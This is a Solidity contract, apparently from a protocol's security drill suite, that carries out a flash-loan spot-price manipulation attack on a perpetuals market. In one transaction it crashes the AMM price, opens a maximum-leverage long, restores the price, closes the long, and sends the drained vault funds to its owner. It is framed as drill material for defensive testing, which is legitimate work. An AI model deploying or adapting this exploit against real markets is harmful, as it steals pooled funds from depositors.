// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IFlashLoanSimpleReceiver} from "../interfaces/IFlashLoanSimpleReceiver.sol";
import {IUniswapV2Router} from "../interfaces/IUniswapV2Pair.sol";
import {FlashLender} from "../lending/FlashLender.sol";
import {CollateralVault} from "../protocol/CollateralVault.sol";
import {PerpMarket} from "../protocol/PerpMarket.sol";

/// @title DRILL ATTACKER: flash-loan spot-price manipulation
/// @notice For drills only. In one transaction: flash-borrow WETH, dump it into the AMM pair (the spot price
///         collapses), open a maximum-leverage long at the collapsed price, buy the WETH back (the price recovers),
///         close the long at the recovered price, withdraw the pool's money, repay the loan, keep the rest.
///         Works only while the market prices through the AMM spot price and nobody has paused it.
contract FlashLoanSpotAttacker is IFlashLoanSimpleReceiver {
    address public immutable owner;
    FlashLender public immutable lender;
    IUniswapV2Router public immutable router;
    IERC20 public immutable weth;
    IERC20 public immutable usd;
    CollateralVault public immutable vault;
    PerpMarket public immutable market;

    error NotOwner();
    error NotLender();

    constructor(FlashLender lender_, IUniswapV2Router router_, IERC20 weth_, IERC20 usd_, PerpMarket market_) {
        owner = msg.sender;
        lender = lender_;
        router = router_;
        weth = weth_;
        usd = usd_;
        market = market_;
        vault = market_.vault();
    }

    /// Borrow `borrowWeth`, post `margin` dollars as margin; profit in dollars goes to the owner.
    function attack(uint256 borrowWeth, uint256 margin) external {
        if (msg.sender != owner) revert NotOwner();
        lender.flashLoanSimple(address(this), address(weth), borrowWeth, abi.encode(margin), 0);
        usd.transfer(owner, usd.balanceOf(address(this)));
        uint256 wethLeft = weth.balanceOf(address(this));
        if (wethLeft > 0) weth.transfer(owner, wethLeft);
    }

    function executeOperation(address, uint256 amount, uint256 premium, address, bytes calldata params)
        external
        returns (bool)
    {
        if (msg.sender != address(lender)) revert NotLender();
        uint256 margin = abi.decode(params, (uint256));
        _swap(weth, usd, amount); // spot price of WETH collapses
        uint256 price = market.oracle().price();
        int256 size = int256(margin * market.maxLeverage() * 1e18 / price * 99 / 100);
        usd.approve(address(vault), margin);
        vault.deposit(margin);
        market.openPosition(size, margin);
        _swap(usd, weth, usd.balanceOf(address(this))); // price recovers
        market.closePosition();
        vault.withdraw(vault.balanceOf(address(this)));
        uint256 owed = amount + premium;
        uint256 held = weth.balanceOf(address(this));
        if (held < owed) _buyExact(owed - held);
        weth.approve(address(lender), owed);
        return true;
    }

    function _swap(IERC20 from, IERC20 to, uint256 amountIn) private {
        from.approve(address(router), amountIn);
        router.swapExactTokensForTokens(amountIn, 0, _path(from, to), address(this), block.timestamp);
    }

    function _buyExact(uint256 wethOut) private {
        usd.approve(address(router), type(uint256).max);
        router.swapTokensForExactTokens(wethOut, usd.balanceOf(address(this)), _path(usd, weth), address(this), block.timestamp);
        usd.approve(address(router), 0);
    }

    function _path(IERC20 from, IERC20 to) private pure returns (address[] memory path) {
        path = new address[](2);
        path[0] = address(from);
        path[1] = address(to);
    }
}
